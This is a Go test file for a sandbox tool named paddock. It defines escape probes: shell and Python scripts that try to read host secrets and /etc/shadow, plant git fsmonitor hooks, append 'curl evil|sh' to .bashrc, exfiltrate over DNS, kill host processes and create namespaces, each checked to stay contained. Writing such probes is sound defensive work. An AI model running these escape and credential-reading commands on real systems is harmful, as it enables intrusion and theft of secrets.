package sandbox

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"errors"
	"fmt"
	"io/fs"
	"log/slog"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/sys/unix"
)

// A probe is one escape attempt: a real process run inside the sandbox. Its
// script runs under /bin/sh in its own workspace and must print CONTAINED as
// its last line; any other ending (including a crash of the probe itself) is
// a failure, so a broken probe can never pass. Host-side checks (files that
// must not appear, listeners that must see no connection, secrets that must
// not show up in the output) are added by check.
//
// The same table drives the containment tests and `paddock check`.
type probe struct {
	name   string // short identifier
	threat string // THREATS.md case
	what   string // the attempt, in words
	script string
	// noMarker: the run is expected to be killed (timeouts, limits, output
	// cut), so check alone decides.
	noMarker bool
	// config adjusts the run (limits, network); nil keeps the probe defaults.
	config func(*probeEnv, *Config)
	// setup changes the workspace fixture before the run (a nested
	// repository, no .git at all); nil keeps it.
	setup func(ws string) error
	// check inspects the result on the host; nil means only the CONTAINED line counts.
	check func(env *probeEnv, ws string, res *Result, out string) error
}

// probeHelper is a small Python helper written into each probe workspace:
// `denied NAME NR [ARGS]` calls a raw syscall that must fail with EPERM.
const probeHelper = `import ctypes, errno, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(nr, *args):
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
    return r, ctypes.get_errno()
bad = 0
if sys.argv[1] == "denied":
    for spec in sys.argv[2:]:
        name, rest = spec.split("=", 1)
        parts = [int(x, 0) for x in rest.split(":")]
        r, e = call(*parts)
        if r != -1:
            print("ESCAPED: %s returned %d" % (name, r)); bad = 1
        elif e != errno.EPERM and not (name == "clone3" and e == errno.ENOSYS):
            print("ESCAPED: %s failed with %s, not EPERM from the filter" % (name, errno.errorcode.get(e, e))); bad = 1
        else:
            print("%s: %s" % (name, errno.errorcode.get(e, e)))
print("CONTAINED" if not bad else "FAILED")
`

// probeEnv holds the host-side fixtures shared by all probes of a suite.
type probeEnv struct {
	base    string // outside every workspace
	secret  string // content of base/secret.txt
	canary  string // value of canaryVar in this process's environment
	port    int    // host TCP listener (all addresses)
	accepts atomic.Int64
	ln      net.Listener
	abs     string // abstract unix socket name
	absLn   net.Listener
	absHits atomic.Int64
	victim  *exec.Cmd
	hostIP  string
	prevEnv map[string]*string
	// hostUID is the host uid pair of this suite's sandboxes (hostUID,
	// hostUID+1): its own, so the leak check sees only the sandboxes it ran,
	// never an agent's or a tenant's running at the same time.
	hostUID uint32
}

// proberHostUID gives each process running probes its own host uid pair,
// between DefaultHostUID's pair and the server's tenant ranges.
func proberHostUID() uint32 { return DefaultHostUID + 16 + 2*uint32(os.Getpid()) }

// canaryVar is set in the parent's environment during the probes; it must
// never reach a sandbox.
const canaryVar = "PADDOCK_CANARY_API_KEY"

func randomHex(n int) string {
	b := make([]byte, n)
	_, _ = rand.Read(b)
	return hex.EncodeToString(b)
}

func newProbeEnv() (*probeEnv, error) {
	env := &probeEnv{secret: "SECRET-" + randomHex(12), canary: "sk-canary-" + randomHex(16), prevEnv: map[string]*string{},
		hostUID: proberHostUID()}
	base, err := os.MkdirTemp("", "paddock-probes-")
	if err != nil {
		return nil, err
	}
	env.base = base
	if err := os.WriteFile(filepath.Join(base, "secret.txt"), []byte(env.secret+"\n"), 0o644); err != nil {
		env.close()
		return nil, err
	}
	env.setParentEnv(canaryVar, env.canary)
	env.setParentEnv("OPENAI_API_KEY", env.canary)
	if env.ln, err = net.Listen("tcp", ":0"); err != nil {
		env.close()
		return nil, fmt.Errorf("host listener: %w", err)
	}
	env.port = env.ln.Addr().(*net.TCPAddr).Port
	go acceptCount(env.ln, &env.accepts)
	env.abs = "@paddock-probe-" + randomHex(6)
	if env.absLn, err = net.Listen("unix", env.abs); err != nil {
		env.close()
		return nil, fmt.Errorf("abstract listener: %w", err)
	}
	go acceptCount(env.absLn, &env.absHits)
	env.victim = exec.Command("/bin/sleep", "600")
	if err := env.victim.Start(); err != nil {
		env.close()
		return nil, fmt.Errorf("victim process: %w", err)
	}
	env.hostIP = firstHostIPv4()
	return env, nil
}

func (env *probeEnv) setParentEnv(k, v string) {
	if old, ok := os.LookupEnv(k); ok {
		env.prevEnv[k] = &old
	} else {
		env.prevEnv[k] = nil
	}
	os.Setenv(k, v)
}

func acceptCount(ln net.Listener, n *atomic.Int64) {
	for {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		n.Add(1)
		c.Close()
	}
}

func firstHostIPv4() string {
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		return ""
	}
	for _, a := range addrs {
		if ipn, ok := a.(*net.IPNet); ok && ipn.IP.To4() != nil && !ipn.IP.IsLoopback() {
			return ipn.IP.String()
		}
	}
	return ""
}

func (env *probeEnv) close() {
	for k, v := range env.prevEnv {
		if v == nil {
			os.Unsetenv(k)
		} else {
			os.Setenv(k, *v)
		}
	}
	if env.ln != nil {
		env.ln.Close()
	}
	if env.absLn != nil {
		env.absLn.Close()
	}
	if env.victim != nil && env.victim.Process != nil {
		_ = env.victim.Process.Kill()
		_ = env.victim.Wait()
	}
	if env.base != "" {
		os.RemoveAll(env.base)
	}
}

// workspace creates a fresh workspace for one probe, with a git repository
// and shell rc files to protect.
func (env *probeEnv) workspace(name string) (string, error) {
	ws := filepath.Join(env.base, "ws-"+name)
	files := map[string]string{
		".git/config":      "[core]\n\trepositoryformatversion = 0\n",
		".git/HEAD":        "ref: refs/heads/main\n",
		".bashrc":          "# rc\n",
		".probe/helper.py": probeHelper,
		".git/hooks/.keep": "",
		"notes/readme.txt": "hello\n",
	}
	for rel, content := range files {
		p := filepath.Join(ws, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			return "", err
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			return "", err
		}
	}
	return ws, nil
}

// probeConfig is the default configuration of a probe run.
func (env *probeEnv) probeConfig(ws string) Config {
	return Config{
		Workspace: ws,
		HostUID:   env.hostUID,
		Timeout:   20 * time.Second,
		Memory:    256 << 20,
		Pids:      64,
		MaxOutput: 1 << 20,
		Env: []string{
			"OUTSIDE=" + env.base,
			"HOST_PORT=" + strconv.Itoa(env.port),
			"HOST_IP=" + env.hostIP,
			"ABSTRACT=" + strings.TrimPrefix(env.abs, "@"),
			"VICTIM_PID=" + strconv.Itoa(env.victim.Process.Pid),
			"HOST_UID_BASE=" + strconv.Itoa(DefaultHostUID),
		},
	}
}

// probeOutcome is the verdict of one probe.
type probeOutcome struct {
	probe     probe
	contained bool
	detail    string
	duration  time.Duration
}

// runProbe runs p and decides whether the attempt was contained.
func (env *probeEnv) runProbe(ctx context.Context, p probe) probeOutcome {
	start := time.Now()
	out := probeOutcome{probe: p}
	ws, err := env.workspace(p.name)
	if err != nil {
		out.detail = "fixture: " + err.Error()
		return out
	}
	if p.setup != nil {
		if err := p.setup(ws); err != nil {
			out.detail = "fixture: " + err.Error()
			return out
		}
	}
	cfg := env.probeConfig(ws)
	cfg.Logger = slog.New(slog.DiscardHandler)
	if p.config != nil {
		p.config(env, &cfg)
	}
	var buf bytes.Buffer
	cfg.Stdout, cfg.Stderr = &buf, &buf
	res, err := Run(ctx, cfg, []string{"/bin/sh", "-c", p.script})
	out.duration = time.Since(start)
	text := buf.String()
	if err != nil {
		out.detail = "could not run: " + err.Error()
		return out
	}
	if p.check != nil {
		if err := p.check(env, ws, res, text); err != nil {
			out.detail = err.Error()
			return out
		}
	}
	if leaked := env.leaks(text); leaked != "" {
		out.detail = "output contains " + leaked
		return out
	}
	if i := strings.Index(text, "ESCAPED"); i >= 0 {
		out.detail = "probe said: " + tail(text[i:], 400)
		return out
	}
	lines := strings.Split(strings.TrimRight(text, "\n"), "\n")
	for len(lines) > 1 && strings.HasPrefix(lines[len(lines)-1], "paddock: ") {
		lines = lines[:len(lines)-1] // the host's notices after the run
	}
	if last := lines[len(lines)-1]; !p.noMarker && last != "CONTAINED" {
		out.detail = "probe did not finish as expected: " + tail(text, 400)
		return out
	}
	if p.noMarker && p.check == nil {
		out.detail = "probe has no check"
		return out
	}
	out.contained = true
	return out
}

// leaks names any host secret found in text (never the value itself).
func (env *probeEnv) leaks(text string) string {
	switch {
	case strings.Contains(text, env.secret):
		return "the host secret file's content"
	case strings.Contains(text, env.canary):
		return "the canary API key from the parent environment"
	}
	for _, kv := range os.Environ() {
		k, v, _ := strings.Cut(kv, "=")
		up := strings.ToUpper(k)
		if len(v) >= 12 && (strings.Contains(up, "KEY") || strings.Contains(up, "TOKEN") || strings.Contains(up, "SECRET") || strings.Contains(up, "PASSWORD")) && strings.Contains(text, v) {
			return "the value of the parent's " + k
		}
	}
	return ""
}

func tail(s string, n int) string {
	s = strings.TrimSpace(s)
	if len(s) > n {
		s = s[:n/2] + " ... " + s[len(s)-n/2:]
	}
	return strings.ReplaceAll(s, "\n", " | ")
}

// processesLeft lists host pids still running as one of this suite's
// sandbox uids.
func (env *probeEnv) processesLeft() []int {
	var left []int
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		var st unix.Stat_t
		if unix.Stat("/proc/"+e.Name(), &st) != nil {
			continue
		}
		if st.Uid == env.hostUID || st.Uid == env.hostUID+1 {
			left = append(left, pid)
		}
	}
	return left
}

func fileUnchanged(path, want string) error {
	b, err := os.ReadFile(path)
	if err != nil {
		return fmt.Errorf("%s: %w", path, err)
	}
	if string(b) != want {
		return fmt.Errorf("%s was modified on the host", path)
	}
	return nil
}

func mustNotExist(paths ...string) error {
	for _, p := range paths {
		if _, err := os.Lstat(p); !errors.Is(err, os.ErrNotExist) {
			return fmt.Errorf("%s exists on the host", p)
		}
	}
	return nil
}

// noSpecialFilesUnder fails if a FIFO or device node exists under dir on the
// host (sockets are allowed: nothing blocks on opening one).
func noSpecialFilesUnder(dir string) error {
	var found []string
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.Type()&(fs.ModeNamedPipe|fs.ModeDevice|fs.ModeCharDevice) != 0 {
			found = append(found, strings.TrimPrefix(p, dir+"/"))
		}
		return nil
	})
	if err != nil {
		return err
	}
	if len(found) > 0 {
		return fmt.Errorf("special files created in the workspace: %s", strings.Join(found, ", "))
	}
	return nil
}

func denied(names ...string) string {
	return "python3 .probe/helper.py denied " + strings.Join(names, " ")
}

func sysArg(name string, nr uintptr, args ...uint64) string {
	s := name + "=" + strconv.FormatUint(uint64(nr), 10)
	for _, a := range args {
		s += ":" + strconv.FormatUint(a, 10)
	}
	return s
}

// probes is the containment suite (THREATS.md SBX-01..SBX-10, CVE-10, CVE-14).
func baseProbes() []probe {
	return []probe{
		// SBX-03: no secrets inside.
		{name: "env-canary", threat: "SBX-03", what: "read the parent's API key from the environment",
			script: `env; echo "--"; for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f"; done; echo CONTAINED`},
		{name: "env-allowlist", threat: "SBX-03", what: "find any variable beyond the allowlist",
			script: `extra=$(env | cut -d= -f1 | grep -vxE 'PATH|HOME|LANG|TERM|TMPDIR|PWD|SHLVL|_|OLDPWD|OUTSIDE|HOST_PORT|HOST_IP|ABSTRACT|VICTIM_PID|HOST_UID_BASE'); if [ -n "$extra" ]; then echo "ESCAPED: $extra"; else echo CONTAINED; fi`},
		{name: "etc-shadow", threat: "SBX-03", what: "read /etc/shadow through the read-only /etc",
			script: `if cat /etc/shadow 2>/dev/null | head -c 1 | grep -q .; then echo "ESCAPED: /etc/shadow readable"; else echo CONTAINED; fi`},
		{name: "etc-credentials", threat: "SBX-03", what: "read credentials hosts keep in world-readable /etc files",
			script: `for f in /etc/environment /etc/gitconfig /etc/pip.conf /etc/npmrc /etc/machine-id; do [ -s "$f" ] && echo "ESCAPED: $f has content"; done; [ -n "$(ls -A /etc/profile.d 2>/dev/null)" ] && echo "ESCAPED: /etc/profile.d listed"; echo CONTAINED`},
		{name: "host-secret-file", threat: "SBX-03", what: "read a secret next to the workspace",
			script: `cat "$OUTSIDE/secret.txt" ../secret.txt 2>&1; cat /proc/self/root"$OUTSIDE"/secret.txt 2>&1; echo CONTAINED`},
		{name: "host-homes", threat: "SBX-03", what: "see /root, /home, /run, /var and other host trees",
			script: `for p in /root/.ssh /root/.bashrc /root/.pyenv /home /run /var /srv /opt /mnt /boot /sys /old_root /.dockerenv; do [ -e "$p" ] && echo "ESCAPED: $p visible"; done; echo CONTAINED`},
		{name: "host-sockets", threat: "SBX-03", what: "find host Unix sockets (Docker, D-Bus, SSH agent)",
			script: `s=$(find / \( -path /proc -o -path /usr \) -prune -o -type s -print 2>/dev/null); if [ -n "$s" ]; then echo "ESCAPED: sockets $s"; else echo CONTAINED; fi`},
		{name: "core-dumps", threat: "SBX-03", what: "dump core with secrets in memory",
			script: `if [ "$(ulimit -c)" = 0 ]; then echo CONTAINED; else echo "ESCAPED: core limit $(ulimit -c)"; fi`},

		// SBX-01, CVE-14: writes outside the workspace and link escapes.
		{name: "write-outside", threat: "SBX-01", what: "write next to the workspace and into system directories",
			script: `echo x > "$OUTSIDE/pwned" 2>/dev/null; echo x > ../pwned2 2>/dev/null; for p in /etc/pwned /usr/pwned /pwned /bin/pwned /proc/pwned /dev/pwned; do touch $p 2>/dev/null && echo "ESCAPED: created $p"; done; echo CONTAINED`,
			check: func(env *probeEnv, ws string, _ *Result, _ string) error {
				return mustNotExist(filepath.Join(env.base, "pwned"), filepath.Join(env.base, "pwned2"), "/etc/pwned", "/usr/pwned")
			}},
		{name: "symlink-read", threat: "CVE-14", what: "read a host file through a symlink made in the workspace",
			script: `ln -s "$OUTSIDE/secret.txt" link; cat link 2>&1; ln -s / rootlink; cat rootlink/etc/shadow 2>&1 | head -c 20; echo; echo CONTAINED`},
		{name: "symlink-write", threat: "CVE-14", what: "write a host file through a symlink made in the workspace",
			script: `ln -s "$OUTSIDE/victim.txt" l2; echo pwn > l2 2>/dev/null; ln -s "$OUTSIDE" dirlink; echo pwn > dirlink/victim2.txt 2>/dev/null; echo CONTAINED`,
			check: func(env *probeEnv, ws string, _ *Result, _ string) error {
				return mustNotExist(filepath.Join(env.base, "victim.txt"), filepath.Join(env.base, "victim2.txt"))
			}},
		{name: "hardlink", threat: "CVE-14", what: "hard-link host files into the workspace",
			script: `ln /etc/passwd hl1 2>/dev/null && echo "ESCAPED: linked /etc/passwd"; ln "$OUTSIDE/secret.txt" hl2 2>/dev/null && echo "ESCAPED: linked the secret"; echo CONTAINED`},
		{name: "git-hooks-config", threat: "CVE-10", what: "plant a git hook or rewrite .git/config for the host to run",
			script: `echo '#!/bin/sh' > .git/hooks/pre-commit 2>/dev/null && echo "ESCAPED: hook written"; printf '[core]\n\tfsmonitor = evil\n' >> .git/config 2>/dev/null && echo "ESCAPED: config written"; mv .git .git-old 2>/dev/null && echo "ESCAPED: .git renamed"; rm -rf .git/hooks 2>/dev/null; echo CONTAINED`,
			check: func(env *probeEnv, ws string, _ *Result, _ string) error {
				if err := fileUnchanged(filepath.Join(ws, ".git/config"), "[core]\n\trepositoryformatversion = 0\n"); err != nil {
					return err
				}
				return mustNotExist(filepath.Join(ws, ".git/hooks/pre-commit"), filepath.Join(ws, ".git-old"))
			}},
		{name: "git-redirect", threat: "CVE-10", what: "send the host's git elsewhere: write .git/commondir, HEAD, objects, refs",
			script: `mkdir -p evil && printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > evil/config; echo ../evil > .git/commondir 2>/dev/null && echo "ESCAPED: commondir written"; echo 'ref: refs/heads/evil' > .git/HEAD 2>/dev/null && echo "ESCAPED: HEAD written"; mkdir -p .git/objects/ab .git/refs/heads 2>/dev/null && echo "ESCAPED: objects and refs created"; echo x > .git/gitdir 2>/dev/null && echo "ESCAPED: gitdir written"; rm -f .git/HEAD 2>/dev/null && echo "ESCAPED: HEAD removed"; echo CONTAINED`,
			check: func(_ *probeEnv, ws string, _ *Result, _ string) error {
				if err := fileUnchanged(filepath.Join(ws, ".git/HEAD"), "ref: refs/heads/main\n"); err != nil {
					return err
				}
				return mustNotExist(filepath.Join(ws, ".git/commondir"), filepath.Join(ws, ".git/objects"), filepath.Join(ws, ".git/gitdir"))
			}},
		{name: "git-create", threat: "CVE-10", what: "create .git (a gitdir: file and repo/config) in a workspace without one",
			setup:  func(ws string) error { return os.RemoveAll(filepath.Join(ws, ".git")) },
			script: `mkdir -p repo && printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > repo/config; rm -rf .git 2>/dev/null; rmdir .git 2>/dev/null && echo "ESCAPED: placeholder removed"; printf 'gitdir: repo\n' > .git 2>/dev/null && echo "ESCAPED: .git file created"; mkdir .git/objects 2>/dev/null && echo "ESCAPED: wrote into .git"; git init -q . 2>/dev/null && echo "ESCAPED: git init"; echo CONTAINED`,
			check: func(_ *probeEnv, ws string, _ *Result, _ string) error {
				if st, err := os.Lstat(filepath.Join(ws, ".git")); err != nil || !st.IsDir() || !isEmptyDir(filepath.Join(ws, ".git")) {
					return fmt.Errorf("the workspace's .git is not the empty placeholder after the run (%v)", err)
				}
				return nil
			}},
		{name: "git-nested", threat: "CVE-10", what: "rewrite a nested repository's .git or move it aside",
			setup: func(ws string) error {
				if err := os.MkdirAll(filepath.Join(ws, "sub/.git/hooks"), 0o755); err != nil {
					return err
				}
				return os.WriteFile(filepath.Join(ws, "sub/.git/config"), []byte("[core]\n\tbare = false\n"), 0o644)
			},
			script: `printf '[core]\n\tfsmonitor = evil\n' >> sub/.git/config 2>/dev/null && echo "ESCAPED: nested config written"; echo x > sub/.git/hooks/post-checkout 2>/dev/null && echo "ESCAPED: nested hook written"; mv sub/.git sub/.git-old 2>/dev/null && echo "ESCAPED: nested .git moved"; mv sub sub-old 2>/dev/null && echo "ESCAPED: nested work tree moved"; echo CONTAINED`,
			check: func(_ *probeEnv, ws string, _ *Result, _ string) error {
				if err := fileUnchanged(filepath.Join(ws, "sub/.git/config"), "[core]\n\tbare = false\n"); err != nil {
					return err
				}
				return mustNotExist(filepath.Join(ws, "sub/.git/hooks/post-checkout"), filepath.Join(ws, "sub/.git-old"))
			}},
		{name: "git-allow-write", threat: "CVE-10", what: "with --allow-git-write: hooks, config, info/, commondir (a new one is removed after the run)",
			config: func(_ *probeEnv, c *Config) { c.AllowGitWrite = true },
			script: `mkdir -p .git/objects/ab && echo x > .git/objects/ab/cd || echo "FAILED: .git/objects not writable"; echo x > .git/hooks/pre-commit 2>/dev/null && echo "ESCAPED: hook written"; printf '[core]\n\tfsmonitor = evil\n' >> .git/config 2>/dev/null && echo "ESCAPED: config written"; echo '*' > .git/info/exclude 2>/dev/null && echo "ESCAPED: info/ written"; mv .git/hooks .git/hooks-old 2>/dev/null && echo "ESCAPED: hooks moved"; mv .git .git-old 2>/dev/null && echo "ESCAPED: .git moved"; echo ../evil > .git/commondir; echo CONTAINED`,
			check: func(_ *probeEnv, ws string, _ *Result, out string) error {
				if err := fileUnchanged(filepath.Join(ws, ".git/config"), "[core]\n\trepositoryformatversion = 0\n"); err != nil {
					return err
				}
				if !strings.Contains(out, "paddock: removed "+filepath.Join(ws, ".git/commondir")) {
					return errors.New("no notice that the new .git/commondir was removed")
				}
				if err := fileUnchanged(filepath.Join(ws, ".git/objects/ab/cd"), "x\n"); err != nil {
					return fmt.Errorf("control: %w", err)
				}
				return mustNotExist(filepath.Join(ws, ".git/commondir"), filepath.Join(ws, ".git/hooks/pre-commit"), filepath.Join(ws, ".git/info/exclude"))
			}},
		{name: "shell-rc", threat: "CVE-10", what: "append to a shell rc file in the workspace",
			script: `echo 'curl evil|sh' >> .bashrc 2>/dev/null && echo "ESCAPED: .bashrc written"; rm -f .bashrc 2>/dev/null; mv .bashrc x 2>/dev/null; echo CONTAINED`,
			check: func(env *probeEnv, ws string, _ *Result, _ string) error {
				return fileUnchanged(filepath.Join(ws, ".bashrc"), "# rc\n")
			}},
		{name: "workspace-writable", threat: "SBX-01", what: "(control) the workspace itself is writable and owned by the command",
			script: `echo data > notes/new.txt && mkdir -p build/x && cat notes/readme.txt && echo CONTAINED`,
			check: func(env *probeEnv, ws string, _ *Result, out string) error {
				b, err := os.ReadFile(filepath.Join(ws, "notes/new.txt"))
				if err != nil || string(b) != "data\n" {
					return fmt.Errorf("workspace write did not reach the host: %v (%s)", err, tail(out, 200))
				}
				return nil
			}},
		{name: "tmp-private", threat: "SBX-08", what: "leave a file in /tmp for the next sandbox or the host",
			script: `echo marker > /tmp/paddock-marker && echo CONTAINED`,
			check: func(env *probeEnv, ws string, _ *Result, _ string) error {
				if err := mustNotExist("/tmp/paddock-marker"); err != nil {
					return err
				}
				var buf bytes.Buffer
				cfg := env.probeConfig(ws)
				cfg.Stdout, cfg.Stderr = &buf, &buf
				res, err := Run(context.Background(), cfg, []string{"/bin/sh", "-c", "test -e /tmp/paddock-marker"})
				if err != nil {
					return err
				}
				if res.ExitCode == 0 {
					return errors.New("the next sandbox saw the previous one's /tmp file")
				}
				return nil
			}},

		// SBX-04, SBX-07: network.
		{name: "net-interfaces", threat: "SBX-04", what: "find a network interface besides loopback",
			script: `ifs=$(awk -F: 'NR>2 {gsub(/ /,"",$1); print $1}' /proc/net/dev | tr '\n' ' '); if [ "$ifs" = "lo " ]; then echo CONTAINED; else echo "ESCAPED: interfaces $ifs"; fi`},
		{name: "tcp-internet", threat: "SBX-04", what: "connect to the internet directly",
			script: `python3 -c '
import socket
for a in [("1.1.1.1", 443), ("8.8.8.8", 53)]:
    try:
        socket.create_connection(a, timeout=2); print("ESCAPED: connected to", a)
    except OSError as e: print(a, e)
print("CONTAINED")'`},
		{name: "dns", threat: "SBX-04", what: "resolve a name or send a DNS query (exfiltration channel)",
			script: `python3 -c '
import socket
try:
    print("ESCAPED: resolved", socket.getaddrinfo("example.com", 443))
except OSError as e: print("lookup:", e)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01", ("8.8.8.8", 53))
    s.settimeout(2); s.recv(512); print("ESCAPED: DNS answer")
except OSError as e: print("udp:", e)
print("CONTAINED")'`},
		{name: "host-loopback", threat: "SBX-07", what: "reach a service on the host's loopback and its own IP",
			script: `python3 -c '
import os, socket
port = int(os.environ["HOST_PORT"])
for h in ["127.0.0.1", os.environ.get("HOST_IP") or "127.0.0.2", "::1"]:
    try:
        socket.create_connection((h, port), timeout=2); print("ESCAPED: connected to", h)
    except OSError as e: print(h, e)
print("CONTAINED")'`,
			check: func(env *probeEnv, _ string, _ *Result, _ string) error {
				if n := env.accepts.Load(); n > 0 {
					return fmt.Errorf("the host listener accepted %d connection(s)", n)
				}
				return nil
			}},
		{name: "ipv6", threat: "SBX-04", what: "leave over IPv6",
			script: `python3 -c '
import socket
for a in [("2606:4700:4700::1111", 443), ("::ffff:1.1.1.1", 443)]:
    try:
        socket.create_connection(a, timeout=2); print("ESCAPED:", a)
    except OSError as e: print(a, e)
print("CONTAINED")'`},
		{name: "raw-packet-netlink", threat: "SBX-04", what: "open raw, packet and netlink sockets",
			script: `python3 -c '
import socket
for fam, typ, proto, name in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, "raw icmp"), (socket.AF_INET6, socket.SOCK_RAW, 58, "raw icmpv6"), (socket.AF_PACKET, socket.SOCK_RAW, 0, "packet"), (socket.AF_NETLINK, socket.SOCK_RAW, 0, "netlink")]:
    try:
        socket.socket(fam, typ, proto); print("ESCAPED:", name)
    except OSError as e: print(name, e)
print("CONTAINED")'`,
		},
		{name: "tcp-bind", threat: "SBX-04", what: "open a listening TCP port (Landlock ABI 4+)",
			script: `python3 -c '
import socket
s = socket.socket()
try:
    s.bind(("127.0.0.1", 8080)); s.listen(); print("ESCAPED: listening")
except OSError as e: print(e)
print("CONTAINED")'`},
		{name: "abstract-unix", threat: "SBX-07", what: "connect to a host abstract Unix socket",
			script: `python3 -c '
import os, socket
s = socket.socket(socket.AF_UNIX)
try:
    s.connect("\0" + os.environ["ABSTRACT"]); print("ESCAPED: connected")
except OSError as e: print(e)
print("CONTAINED")'`,
			check: func(env *probeEnv, _ string, _ *Result, _ string) error {
				if n := env.absHits.Load(); n > 0 {
					return fmt.Errorf("the host abstract socket accepted %d connection(s)", n)
				}
				return nil
			}},

		// SBX-02: hardening.
		{name: "capabilities", threat: "SBX-02", what: "hold any capability, lack no_new_privs or seccomp",
			script: `grep -E '^(Cap(Inh|Prm|Eff|Bnd|Amb)|NoNewPrivs|Seccomp):' /proc/self/status; bad=$(grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb):' /proc/self/status | grep -v '0000000000000000'); grep -q '^NoNewPrivs:[[:space:]]*1' /proc/self/status || bad="$bad nnp"; grep -q '^Seccomp:[[:space:]]*2' /proc/self/status || bad="$bad seccomp"; if [ -n "$bad" ]; then echo "ESCAPED: $bad"; else echo CONTAINED; fi`},
		{name: "host-uid", threat: "SBX-02", what: "run as a privileged host uid or keep host groups",
			script: `cat /proc/self/uid_map; bad=$(awk '$2 < 1000000 {print "host uid " $2}' /proc/self/uid_map /proc/self/gid_map); g=$(grep '^Groups:' /proc/self/status | cut -f2 | tr -d ' '); [ -n "$g" ] && bad="$bad groups $g"; if [ -n "$bad" ]; then echo "ESCAPED: $bad"; else echo CONTAINED; fi`},
		{name: "host-pids", threat: "SBX-02", what: "see host processes",
			script: `n=$(ls -d /proc/[0-9]* | wc -l); echo "$n processes; pid 1: $(cat /proc/1/comm)"; if [ "$n" -le 6 ] && [ -d /proc/1 ] && ! grep -qs . /proc/$VICTIM_PID/cmdline; then echo CONTAINED; else echo "ESCAPED: host processes visible"; fi`},
		{name: "signal-host", threat: "SBX-02", what: "kill a host process",
			script: `kill -9 "$VICTIM_PID" 2>&1; kill -9 -1 2>&1; echo CONTAINED`,
			check: func(env *probeEnv, _ string, _ *Result, _ string) error {
				if err := env.victim.Process.Signal(unix.Signal(0)); err != nil {
					return fmt.Errorf("the host victim process died: %v", err)
				}
				return nil
			}},
		{name: "mount", threat: "SBX-02", what: "mount, bind-mount or unmount",
			script: `mkdir -p /tmp/m; mount -t tmpfs none /tmp/m 2>/dev/null && echo "ESCAPED: tmpfs mounted"; mount --bind / /tmp/m 2>/dev/null && echo "ESCAPED: bind"; umount -l /proc 2>/dev/null && echo "ESCAPED: umount"; ` +
				denied(sysArg("mount", unix.SYS_MOUNT), sysArg("umount2", unix.SYS_UMOUNT2), sysArg("pivot_root", unix.SYS_PIVOT_ROOT), sysArg("open_tree", unix.SYS_OPEN_TREE), sysArg("fsopen", unix.SYS_FSOPEN), sysArg("chroot", unix.SYS_CHROOT))},
		{name: "namespaces", threat: "SBX-02", what: "create nested namespaces (unshare -r, clone flags, setns)",
			script: `unshare -U -r true 2>/dev/null && echo "ESCAPED: unshare -Ur"; unshare -n true 2>/dev/null && echo "ESCAPED: unshare -n"; ` +
				denied(sysArg("unshare-user", unix.SYS_UNSHARE, unix.CLONE_NEWUSER), sysArg("unshare-mnt", unix.SYS_UNSHARE, unix.CLONE_NEWNS), sysArg("setns", unix.SYS_SETNS, 0, 0), sysArg("clone-newuser", unix.SYS_CLONE, unix.CLONE_NEWUSER), sysArg("clone3", unix.SYS_CLONE3, 0, 0))},
		{name: "ptrace", threat: "SBX-02", what: "trace or read another process's memory",
			script: `strace -f true >/dev/null 2>&1 && echo "ESCAPED: strace ran"; ` +
				denied(sysArg("ptrace-traceme", unix.SYS_PTRACE, 0), sysArg("ptrace-attach", unix.SYS_PTRACE, 16, 1), sysArg("process_vm_readv", unix.SYS_PROCESS_VM_READV, 1, 0, 0, 0, 0, 0), sysArg("pidfd_getfd", unix.SYS_PIDFD_GETFD, 0, 0, 0))},
		{name: "devices", threat: "SBX-02", what: "reach host devices or create device nodes",
			script: `d=$(ls /dev | tr '\n' ' '); echo "$d"; for x in /dev/vda /dev/sda /dev/mem /dev/kmem /dev/kmsg /dev/port /dev/fuse /dev/net/tun; do [ -e $x ] && echo "ESCAPED: $x"; done; mknod /tmp/null2 c 1 3 2>/dev/null && echo "ESCAPED: mknod"; echo x > /dev/null && echo CONTAINED`},
		{name: "fifo-workspace", threat: "SBX-01", what: "leave a FIFO in the workspace for the host to open and hang on",
			script: `mkfifo report.txt 2>&1; mkfifo notes/report.txt 2>&1; mknod pipe p 2>&1; for p in report.txt notes/report.txt pipe; do [ -p "$p" ] && echo "ESCAPED: FIFO $p created"; done; echo CONTAINED`,
			check:  func(_ *probeEnv, ws string, _ *Result, _ string) error { return noSpecialFilesUnder(ws) }},
		{name: "fifo-tmp", threat: "SBX-01", what: "make a FIFO in the private /tmp and /dev/shm",
			script: `mkfifo /tmp/fifo 2>&1; mkfifo /dev/shm/fifo 2>&1; for p in /tmp/fifo /dev/shm/fifo; do [ -p "$p" ] && echo "ESCAPED: FIFO $p created"; done; echo CONTAINED`},
		{name: "fifo-python", threat: "SBX-01", what: "make a FIFO with Python's os.mkfifo and os.mknod",
			script: `if ! command -v python3 >/dev/null; then echo "python3 absent: nothing to try"; echo CONTAINED; exit; fi; python3 -c '
import os, stat
bad = 0
for name, fn in [("os.mkfifo", lambda: os.mkfifo("py.fifo")), ("os.mknod S_IFIFO", lambda: os.mknod("py2.fifo", stat.S_IFIFO | 0o644)), ("os.mkfifo /tmp", lambda: os.mkfifo("/tmp/py.fifo"))]:
    try:
        fn(); print("ESCAPED:", name); bad = 1
    except OSError as e: print(name, e)
print("CONTAINED" if not bad else "FAILED")'`,
			check: func(_ *probeEnv, ws string, _ *Result, _ string) error { return noSpecialFilesUnder(ws) }},
